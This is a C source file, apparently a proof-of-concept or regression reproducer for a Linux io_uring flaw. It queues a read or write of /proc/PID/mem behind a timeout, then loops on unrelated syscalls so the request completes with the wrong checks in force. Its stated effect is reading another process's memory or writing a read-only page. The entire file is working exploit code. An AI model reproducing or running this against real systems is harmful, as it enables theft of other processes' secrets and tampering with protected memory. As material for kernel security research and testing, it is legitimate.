/* SPDX-License-Identifier: Apache-2.0 */
/*
 * io_uring completes requests on the way out of whatever system call their task is in. Here a read
 * of a mem file waits for a timeout, while its task repeats an unrelated call until the read
 * completes in one of them.
 *
 *	late CALL PID ADDRESS LENGTH	reads another process's memory
 *	late CALL self 0 0		writes a read-only page
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/time_types.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static int failed(const char *what)
{
	printf("failed: %s: %m\n", what);
	return 1;
}

static void call(const char *name)
{
	if (!strcmp(name, "clone"))
		syscall(SYS_clone, CLONE_THREAD, 0, 0, 0, 0); /* fails: CLONE_SIGHAND is missing */
	else if (!strcmp(name, "exec"))
		syscall(SYS_execve, "/nowhere", NULL, NULL);
	else if (!strcmp(name, "ptrace"))
		syscall(SYS_ptrace, PTRACE_CONT, 0, 0, 0);
	else if (!strcmp(name, "vm"))
		syscall(SYS_process_vm_readv, 0, NULL, 0, NULL, 0, -1);
	else
		syscall(SYS_getppid);
}

int main(int argc, char **argv)
{
	static const char text[] = "the-secret-of-the-victim";
	struct __kernel_timespec wait = {.tv_nsec = 20 * 1000 * 1000};
	struct io_uring_params params = {.flags = IORING_SETUP_COOP_TASKRUN};
	struct io_uring_cqe *cqes;
	struct io_uring_sqe *sqes;
	static char buffer[64];
	unsigned int *tail, *array, *cq_tail;
	int ring, mem, writes;
	uint64_t address;
	char path[64], *rings, *page;
	time_t end;
	size_t len;

	if (argc != 5)
		return 2;
	writes = !strcmp(argv[2], "self");
	address = strtoull(argv[3], NULL, 10);
	len = strtoul(argv[4], NULL, 10);
	snprintf(path, sizeof(path), "/proc/%s/mem", argv[2]);
	mem = open(path, (writes ? O_RDWR : O_RDONLY) | O_NONBLOCK);
	if (mem < 0)
		return failed("open");
	page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (writes) {
		address = (uintptr_t)page;
		len = sizeof(text) - 1;
		memcpy(buffer, text, len);
	}
	ring = syscall(SYS_io_uring_setup, 2, &params);
	if (ring < 0) {
		puts("unsupported");
		return 3;
	}
	rings = mmap(NULL, params.cq_off.cqes + params.cq_entries * sizeof(*cqes) + 4096,
		     PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
	sqes = mmap(NULL, 2 * sizeof(*sqes), PROT_READ | PROT_WRITE, MAP_SHARED, ring,
		    IORING_OFF_SQES);
	if (rings == MAP_FAILED || sqes == MAP_FAILED)
		return failed("mmap");
	sqes[0] = (struct io_uring_sqe){
		.opcode = IORING_OP_TIMEOUT,
		.flags = IOSQE_IO_HARDLINK,
		.fd = -1,
		.addr = (uintptr_t)&wait,
		.len = 1,
	};
	sqes[1] = (struct io_uring_sqe){
		.opcode = writes ? IORING_OP_WRITE : IORING_OP_READ,
		.fd = mem,
		.addr = (uintptr_t)buffer,
		.len = len,
		.off = address,
	};
	array = (unsigned int *)(rings + params.sq_off.array);
	array[0] = 0;
	array[1] = 1;
	tail = (unsigned int *)(rings + params.sq_off.tail);
	__atomic_store_n(tail, *tail + 2, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring, 2, 0, 0, NULL, 0) != 2)
		return failed("io_uring_enter");
	cq_tail = (unsigned int *)(rings + params.cq_off.tail);
	cqes = (struct io_uring_cqe *)(rings + params.cq_off.cqes);
	for (end = time(NULL) + 30; __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE) < 2;) {
		call(argv[1]);
		if (time(NULL) > end)
			return failed("nothing came");
	}
	if (cqes[1].res != (int)len) {
		printf("failed: %d\n", cqes[1].res);
		return 1;
	}
	puts(writes ? page : buffer);
	return 0;
}
